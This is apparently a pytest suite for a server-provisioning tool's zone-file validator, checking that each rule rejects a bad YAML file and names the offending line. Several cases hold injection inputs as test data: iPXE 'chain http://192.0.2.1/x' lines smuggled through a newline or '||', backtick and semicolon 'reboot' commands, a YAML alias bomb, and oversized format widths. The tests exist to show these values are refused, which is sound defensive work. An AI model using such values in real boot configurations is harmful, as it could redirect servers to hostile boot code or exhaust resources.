"""One test per validation rule: a broken zone file names the exact line."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from conftest import LAB

from bootstrap.errors import ZoneInvalid
from bootstrap.plan import compile_plan
from bootstrap.state import Store
from bootstrap.zone import load_zone, parse_zone_text


def problems(text: str) -> list[str]:
    with pytest.raises(ZoneInvalid) as info:
        parse_zone_text(text, "z.yml")
    return [str(p) for p in info.value.problems]


def line_of(text: str, needle: str) -> int:
    for number, line in enumerate(text.splitlines(), 1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in text")


def broken(lab_text: str, old: str, new: str) -> str:
    assert old in lab_text, old
    return lab_text.replace(old, new, 1)


def assert_reports(text: str, needle: str, fragment: str) -> None:
    expected = f"z.yml:{line_of(text, needle)}: "
    found = problems(text)
    assert any(p.startswith(expected) and fragment in p for p in found), found


def test_lab_is_valid(lab_text):
    zone = parse_zone_text(lab_text, "z.yml")
    assert zone.name == "lab1" and len(zone.pods) == 1


def test_duplicate_pod_name_and_index(lab_text):
    text = lab_text + "  - {name: p01, index: 1}\n"
    last = len(text.splitlines())
    found = problems(text)
    assert f"z.yml:{last}: pods[1]: pod name 'p01' is already used at line {last - 1}" in found
    assert f"z.yml:{last}: pods[1]: pod index 1 is already used at line {last - 1}" in found


def test_clear_text_password_is_not_repeated(lab_text):
    found = problems(broken(lab_text, "password_file: secrets/bmc.pass", "password: hunter2"))
    assert any("clear-text secret" in p for p in found), found
    assert all("hunter2" not in p for p in found)


def test_every_problem_reported_at_once(lab_text):
    text = broken(lab_text, "naming:", "nameing:")
    text = broken(text, "firmware: [bios-2.4.1]", "firmware: [bios-9]")
    text = broken(text, "{name: p01, index: 1}", "{name: p01, index: 0}")
    assert len(problems(text)) >= 3


def test_not_a_mapping():
    assert problems("- just\n- a list\n") == ["z.yml:1: zone file must be a mapping"]


# --- Every validation rule, one row each (issues 10, 13 and 19) ---
# Each case changes examples/lab.yml: (old text, new text, a piece of the line the problem
# must name, a piece of the message[, more (old, new) changes]). `zone validate` loads
# them like this: from a file, with the files it names (the lab's firmware and secrets
# beside it).

BOMB = "".join(f"  b{i}: &b{i} [" + ", ".join([f"*b{i - 1}" if i else "x"] * 9) + "]\n"
               for i in range(10))
UNSAFE = "auto=true priority=critical"
NAMING = 'naming: "{pod}-u{unit:02d}"'
CIRCUIT = 'circuit_id: "swp{port}"'
LOM = '    lom:   {role: lom-switch, remote_id: "{pod}-lom",'
POD = "  - {name: p01, index: 1}"
LAB_SHA256 = "872a5879c347a0f40f6242fbe6b0d6c50c8b0a67d5c1ce46cf4cb9708eb5b56e"
ED25519 = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIEdtrq+BamXi3qOgNK2cDHqCGuseKM/EgNRa+l73yr0 "
           "ops@example")


def site(body: str) -> str:
    """A ``site:`` section (flow style) put before the lab's naming line."""
    return f"site: {{{body}}}\n{NAMING}"


CASES = {
    # the zone's structure and its references
    "unknown key": ("naming:", "nameing:", "nameing:",
                    "unknown key 'nameing' (did you mean 'naming'?)"),
    # the YAML parser names the line where it noticed: the next one
    "yaml syntax": ("naming:", "naming: [", "images:", "YAML: expected ',' or ']'"),
    "overlapping networks": ("supernet: 10.16.0.0/16", "supernet: 10.15.128.0/17",
                             "10.15.128.0/17", "overlaps networks.mgmt"),
    "bad cidr": ("10.18.0.0/16", "10.18.0.1/16", "10.18.0.1/16", "networks.storage.supernet"),
    "pod subnet does not fit": ("{name: p01, index: 1}", "{name: p01, index: 256}",
                                "index: 256", "needs subnet 256"),
    "units overflow subnet": ("{units: 3-4, role: hypervisor}",
                              "{units: 3-250, role: hypervisor}", "  mgmt:",
                              "unit 250 needs host 260"),
    "missing role": ("{units: 2,   role: storage}", "{units: 2,   role: storrage}", "storrage",
                     "no role 'storrage'"),
    "missing image": ("image: debian-12, groups: [storage]",
                      "image: debian-13, groups: [storage]", "debian-13", "no image 'debian-13'"),
    "missing firmware name": ("firmware: [bios-2.4.1]", "firmware: [bios-9]", "bios-9",
                              "no firmware 'bios-9'"),
    "unit claimed twice": ("{units: 2,   role: storage}", "{units: 1-2, role: storage}",
                           "{units: 1-2", "unit 1 is already claimed"),
    "uplink to unknown switch": ("switch: core-2,", "switch: core-9,", "core-9",
                                 "no switch 'core-9'"),
    "uplink port collides with unit": ("port: swp48", "port: swp3", "port: swp3",
                                       "port swp3 of tor-a already carries unit 3"),
    "naming without unit": (NAMING, 'naming: "{pod}"', "naming:",
                            "must be a template with {unit}"),
    "firmware digest not hex": (f'"{LAB_SHA256}"', '"abc"', 'sha256: "abc"', "64 hex digits"),
    "clear-text password": ("password_file: secrets/bmc.pass", "password: hunter2",
                            "password: hunter2", "clear-text secret"),
    # row 5: times within their wire limits, T1 < T2 < lease
    "lease over u32": ("lease_time: 3600", "lease_time: 4294967296", "lease_time",
                       "dhcp.lease_time = 4294967296 is outside 60..4294967295"),
    "renew after rebind": ("lease_time: 3600", "lease_time: 3600, renew_time: 3200, "
                           "rebind_time: 3100", "renew_time", "does not hold"),
    # row 5: nothing that breaks a rendered script
    "newline in naming": (NAMING, 'naming: "{pod}-u{unit:02d}\\nchain http://192.0.2.1/x"',
                          "naming:", "character '\\n' is not allowed"),
    "dollar in controller url": ('url: "http://10.17.0.2:8080"',
                                 'url: "http://10.17.0.2:8080/${net0/mac}"', "10.17.0.2:8080",
                                 "character '$' is not allowed"),
    "space in controller url": ('url: "http://10.17.0.2:8080"', 'url: "http://10.17.0.2:8080/a b"',
                                "10.17.0.2:8080", "is not a plain http(s) URL"),
    "quote in cmdline": (UNSAFE, UNSAFE + " x='1'", "cmdline", "character \"'\" is not allowed"),
    "ipxe operator in cmdline": (UNSAFE, UNSAFE + " || chain http://192.0.2.1/x", "cmdline",
                                 "'|' and '&' are not allowed"),
    "backtick in remote_id": ('remote_id: "{pod}-tor-b"', 'remote_id: "{pod}-`reboot`"',
                              "`reboot`", "character '`' is not allowed"),
    "backslash in username": ("username: admin", 'username: "ad\\\\min"', "username",
                              "character '\\\\' is not allowed"),
    "space in kernel path": ("kernel: images/debian-12/linux", 'kernel: "images/debian 12/linux"',
                             "debian 12", "must not contain spaces"),
    "shell in group name": ("groups: [sdn]", 'groups: ["sdn;reboot"]', "sdn;reboot",
                            "not a valid group name"),
    "redfish url with a space": ('url: "http://127.0.0.1:8000"', 'url: "http://127.0.0.1:8000/ {name}"',
                                 "127.0.0.1:8000", "does not give a plain http(s) URL"),
    # row 5: every rendered name a DNS label, every FQDN within 253
    "slash in naming": (NAMING, 'naming: "{pod}/u{unit:02d}"', "naming:", "not a valid DNS label"),
    "space in naming": (NAMING, 'naming: "{pod} u{unit:02d}"', "naming:", "not a valid DNS label"),
    "label over 63": (NAMING, 'naming: "{pod}-u{unit:02d}-' + "x" * 55 + '"', "naming:",
                      "not a valid DNS label of at most 59"),
    "slash in switch name": ("    lom:   {role", "    lom/x: {role", "lom/x", "not a valid DNS label"),
    "long core name": ("  core-2: {remote_id: core-2}", f"  core-{'x' * 60}: {{remote_id: core-2}}",
                       "core-xxx", "not a valid DNS label"),
    "fqdn over 253": ("domain: lab1.example.net", "domain: " + ".".join(["a" * 60] * 4),
                      "domain:", "not a valid domain"),
    # row 5 and issue 13: the files it names exist, firmware matches its sha256
    "missing password file": ("secrets/bmc.pass", "secrets/nope.pass", "password_file",
                              "credentials.bmc.password_file:"),
    "missing firmware": ("firmware/bios-2.4.1.bin", "firmware/bios-9.bin", "image: firmware",
                         "firmware.bios-2.4.1.image:"),
    "firmware sha256 mismatch": ("872a5879c347", "072a5879c347", "sha256:", "sha256 is 872a5879"),
    "missing ca file": ("verify_tls: false", "verify_tls: true\n  ca_file: certs/ca.pem",
                        "ca_file", "redfish.ca_file:"),
    # issue 13: no service address is an address the plan hands out
    "controller on core-1": ("              core_from: 3}", "              core_from: 2}",
                             "controller: {", "10.17.0.2 is also the address of core switch core-1"),
    "dns upstream on a server": ("upstreams: [192.0.2.53]", "upstreams: [10.17.1.13]", "upstreams",
                                 "10.17.1.13 is also the address of p01-u03 on networks.provision"),
    "dns upstream is the controller": ("upstreams: [192.0.2.53]", "upstreams: [10.17.0.2]",
                                       "upstreams", "is the controller itself"),
    # row 6: bounded loading and templates, an error with its line instead of a hang
    "alias bomb": ("up: {", "bomb:\n" + BOMB + "up: {", "b5:", "more than 200000 values"),
    "deep nesting": ("up: {", "deep: " + "[" * 5000 + "]" * 5000 + "\nup: {", "deep:",
                     "nested deeper than 32 levels"),
    "huge naming width": (NAMING, 'naming: "{pod}-{unit:>900000000}"', "naming:",
                          "only a width up to 99"),
    "huge circuit width": ('circuit_id: "swp{port}"', 'circuit_id: "swp{port:>900000000}"',
                           "circuit_id:", "only a width up to 99"),
    "huge remote_id precision": ('remote_id: "{pod}-tor-a"', 'remote_id: "{pod:.900000000}-a"',
                                 "{pod:.9", "only a width up to 99"),
    "huge redfish width": ('system: "{name}"', 'system: "{name:>900000000}"', "system:",
                           "only a width up to 99"),
    "attribute in template": (NAMING, 'naming: "{pod.__class__}-{unit}"', "naming:",
                              "unknown field {pod.__class__}"),
    "huge unit range": ("{units: 3-4, role: hypervisor}", "{units: 3-100000000, role: hypervisor}",
                        "3-100000000", "holds at most 256 units"),
    "integer too long": ("index: 1}", "index: " + "9" * 5000 + "}", "index: 999", "integer too long"),
    "mapping as a key": ("up: {", "? {a: 1}\n: 2\nup: {", "? {a: 1}", "a key must be plain text"),
    "file over 10 MB": ("pods:", "#" + "x" * (10 << 20) + "\npods:", "# The built-in lab",
                        "larger than 10 MB"),
    # issue 19: circuit-id templates, relay presets, MAC remote-ids
    "no port field": (CIRCUIT, 'circuit_id: "{switch}:x"', "circuit_id:",
                      "must contain {port}, {port0} or {lane}"),
    "unknown field": (CIRCUIT, 'circuit_id: "{slot}/{port}"', "circuit_id:", "unknown field {slot}"),
    "huge lane width": (CIRCUIT, 'circuit_id: "Ethernet{lane:>999}"', "circuit_id:",
                        "only a width up to 99"),
    "unknown relay": (CIRCUIT, "relay: sonix", "relay:", "unknown relay 'sonix' (one of sonic"),
    "vlan without vlan": (CIRCUIT, "relay: junos", "relay:", "has no vlan"),
    "pod names no switch": (CIRCUIT, 'circuit_id: "{pod}:swp{port}"', "circuit_id:",
                            "but it already names p01-tor-a port 1: the location would be ambiguous"),
    "core inherits a pod": (CIRCUIT, 'circuit_id: "{pod}:swp{port}"', "core-1: {",
                            "names a pod; give it its own circuit_id or relay"),
    "port and port0 clash": (LOM, LOM + ' circuit_id: "swp{port0}",', "lom:   {",
                             "gives 'swp1' to 'swp{port0}' port 2, but it already names "
                             "'swp{port}' port 1"),
    "over 255 bytes": (CIRCUIT, 'circuit_id: "{switch}' + "x" * 250 + '{port}"', "circuit_id:",
                       "longer than the 255 bytes Option 82 carries"),
    "pod switch serves switches": (LOM, LOM + " serves: switch,", "serves: switch",
                                   "lom.serves must be one of server, bmc"),
    "remote_id field": ('remote_id: "{pod}-lom"', 'remote_id: "{pod}-{vlan}"', "{pod}-{vlan}",
                        "may use only {pod}, {pod_index}, {switch}"),
    "bad mac": (POD, POD[:-1] + ', macs: {tor-a: "0c:29:ef:01:02"}}', "macs:",
                "'0c:29:ef:01:02' is not a MAC address"),
    "mac of no switch": (POD, POD[:-1] + ', macs: {tor-c: "0c:29:ef:01:02:03"}}', "macs:",
                         "no switch 'tor-c' in pod_template.switches"),
    "mac twice": ("  core-2: {remote_id: core-2}",
                  '  core-2: {remote_id: mac, mac: "0c29.ef01.0203"}', "macs:",
                  "MAC 0c:29:ef:01:02:03 of p01-tor-a is already the MAC of core.core-2",
                  (POD, POD[:-1] + ', macs: {tor-a: "0C-29-EF-01-02-03"}}')),
    # site: what the installed servers need from this site
    "ssh key of an unknown type": (
        NAMING, site('ssh_authorized_keys: ["ssh-dss AAAAB3NzaC1kc3M= x"]'), "ssh-dss",
        "key type 'ssh-dss' is not one of ssh-ed25519"),
    "ssh key cut short": (NAMING, site(f'ssh_authorized_keys: ["{ED25519[:60]}"]'), "ssh-ed25519",
                          "site.ssh_authorized_keys[0]: the key's data is not a ssh-ed25519"),
    "ssh key not base64": (NAMING, site('ssh_authorized_keys: ["ssh-rsa AAAA!B3 me"]'), "ssh-rsa",
                           "the key is not valid base64"),
    "ssh key of another type's data": (
        NAMING, site(f'ssh_authorized_keys: ["ssh-rsa {ED25519.split()[1]}"]'), "ssh-rsa",
        "the key's data is not a ssh-rsa key"),
    "missing keys file": (NAMING, site("ssh_authorized_keys_file: keys/ops.pub"), "ops.pub",
                          "keys/ops.pub: No such file or directory"),
    "bad bond mode": (NAMING, site("bond_mode: lacp"), "bond_mode",
                      "site.bond_mode: 'lacp' is not a Linux bonding mode (one of balance-rr"),
    "bad nic name": (NAMING, site("nics: [eno1, ens1f0/1]"), "nics", "site.nics[1]: 'ens1f0/1'"),
    "nic named twice": (NAMING, site("nics: [eno1, eno1]"), "nics", "'eno1' is named twice"),
    "no nics": (NAMING, site("nics: []"), "nics", "site.nics: name at least one NIC"),
    "bad public url": (NAMING, site("public_url: ftp://zone.example.net"), "public_url",
                       "site.public_url: 'ftp://zone.example.net' is not a plain http(s) URL"),
    "unknown site key": (NAMING, site("bond: 802.3ad"), "bond:",
                         "site: unknown key 'bond' (did you mean 'bond_mode'?)"),
}


def zone_dir(tmp_path, text: str) -> str:
    """``text`` as a zone file beside the lab's firmware and secrets."""
    examples = os.path.dirname(LAB)
    for folder in ("firmware", "secrets"):
        os.symlink(os.path.join(examples, folder), tmp_path / folder)
    path = tmp_path / "z.yml"
    path.write_text(text, encoding="utf-8")
    return str(path)


@pytest.mark.timeout(20)
@pytest.mark.parametrize("case", sorted(CASES))
def test_broken_zone_is_refused_with_its_line(case, lab_text, tmp_path):
    old, new, needle, fragment, *more = CASES[case]
    text = broken(lab_text, old, new)
    for old, new in more:
        text = broken(text, old, new)
    path = zone_dir(tmp_path, text)
    with pytest.raises(ZoneInvalid) as info:
        load_zone(path, files=True)
    found = [str(p) for p in info.value.problems]
    expected = f"{path}:{line_of(text, needle)}: "
    assert any(p.startswith(expected) and fragment in p for p in found), found
    assert all("\n" not in p and len(p) < 500 for p in found), found


def test_lab_files_are_there_but_boot_images_come_later(lab_text, tmp_path):
    zone = load_zone(zone_dir(tmp_path, lab_text), files=True)
    # the boot images come later (zone up --lab installs the lab's): said, not refused
    assert {w.message.split(":")[0] for w in zone.warnings} == {"images.debian-12.kernel",
                                                                "images.debian-12.initrd"}


def ipxe_scripts(plan, tmp_path) -> list[str]:
    """Every server's iPXE script, asked for from its own address."""
    from http_helpers import from_address, make_app

    store = Store(str(tmp_path / "state" / "zone.db"))
    store.seed(plan)
    try:
        client = make_app(plan, store).test_client()
        return [client.get("/boot/ipxe", **from_address(n.address)).get_data(as_text=True)
                for n in plan.servers()]
    finally:
        store.close()


@pytest.mark.timeout(60)
def test_newline_in_naming_cannot_reach_an_ipxe_script(lab_text, tmp_path):
    text = broken(lab_text, NAMING, 'naming: "{pod}-u{unit:02d}\\nchain http://192.0.2.1/x"')
    try:
        plan = compile_plan(parse_zone_text(text, "z.yml"))
    except ZoneInvalid as exc:
        assert "naming: character '\\n' is not allowed" in str(exc)
        plan = compile_plan(parse_zone_text(lab_text, "z.yml"))
    scripts = ipxe_scripts(plan, tmp_path)
    assert len(scripts) == 4
    for body in scripts:
        assert "192.0.2.1" not in body
        assert [line for line in body.splitlines() if line.startswith("chain")] == \
            [line for line in body.splitlines() if line.startswith("chain --replace")], body


def validate(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bootstrap", "validate", *args],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.timeout(150)
def test_zone_validate_command_checks_files_and_digests(lab_text, tmp_path):
    text = broken(lab_text, "872a5879c347", "072a5879c347")
    path = zone_dir(tmp_path, broken(text, "secrets/bmc.pass", "secrets/nope.pass"))
    result = validate(path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{path}:{line_of(text, 'password_file')}: credentials.bmc.password_file:" \
        in result.stderr
    assert f"{path}:{line_of(text, 'sha256:')}: firmware.bios-2.4.1.image:" in result.stderr
    # --no-hash: the image must be there, its digest is not computed
    (tmp_path / "z.yml").write_text(text, encoding="utf-8")
    assert validate(path).returncode == 2
    result = validate(path, "--no-hash")
    assert result.returncode == 0, result.stderr
    assert "warning:" in result.stderr and "images.debian-12.kernel" in result.stderr


@pytest.mark.parametrize("nos", ["sonic", "cumulus", "eos", "nxos"])
def test_each_relay_preset_validates_on_the_lab(nos, lab_text):
    zone = parse_zone_text(broken(lab_text, CIRCUIT, f"relay: {nos}"), "z.yml")
    assert zone.switches["tor-a"].circuit_id and zone.switches["tor-a"].remote_id == "{pod}-tor-a"


def test_keys_file_adds_keys_and_names_its_own_bad_line(lab_text, tmp_path):
    keys = tmp_path / "ops.pub"
    keys.write_text(f"# the on-call team\n\n{ED25519}\nssh-ed25519 AAAAC3Nz cut\n")
    path = zone_dir(tmp_path, broken(lab_text, NAMING, site("ssh_authorized_keys_file: ops.pub")))
    with pytest.raises(ZoneInvalid) as info:
        load_zone(path)
    assert [str(p) for p in info.value.problems] == [
        f"{keys}:4: authorized key: the key's data is not a ssh-ed25519 key (truncated or "
        "mixed up?)"]
    keys.write_text(f"{ED25519}\n")
    assert load_zone(path).site.ssh_authorized_keys == (ED25519,)
